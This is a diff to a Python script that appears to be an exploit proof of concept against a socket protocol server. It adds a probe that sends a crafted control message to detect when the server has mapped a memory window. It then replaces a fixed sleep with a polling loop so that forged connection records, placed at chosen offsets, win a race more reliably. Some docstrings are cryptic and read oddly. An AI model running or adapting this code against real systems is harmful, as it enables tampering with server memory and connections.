@@ -18,6 +18,7 @@ What is mapped is not passed on, so that neither ever finds a place.
 """
 
 import ctypes
+import errno
 import os
 import random
 import select
@@ -28,6 +29,7 @@ import time
 
 FAMILY = int(os.environ["FAMILY"])
 LAST, PLACED, OFFER = 1 << 31, 1 << 30, 1 << 29
+SOL_RSOCK, RSOCK_CMSG_OFFSET, MSG_RIOWRITE = 0x10000, 1, 0x10000000
 HELLO = struct.pack(">III", LAST | 8, 0x72736f63, 1)
 libc = ctypes.CDLL(None)
 
@@ -123,6 +125,17 @@ class Side:
             yield marker, record
 
 
+def has_window(server):
+    """Does what is placed find one? It is a zero, as there is already."""
+    try:
+        server.sendmsg([b"\0"], [(SOL_RSOCK, RSOCK_CMSG_OFFSET, struct.pack("=Q", 0))], MSG_RIOWRITE)
+    except OSError as e:
+        if e.errno != errno.ENXIO:
+            raise
+        return False
+    return True
+
+
 class Claim:
     """Forge the second long call of a connection"""
 
@@ -137,7 +150,8 @@ class Claim:
         if self.seen != 2 or len(record) <= self.SIZE:
             return record
         # The first had the server map windows
-        time.sleep(1)
+        while not has_window(server):
+            time.sleep(0.01)
         pos = len(record) - 4 - self.SIZE
         if not self.forge:
             return forged(PLACED, pos + self.STREAMED, 0, pos, self.SIZE - self.STREAMED,
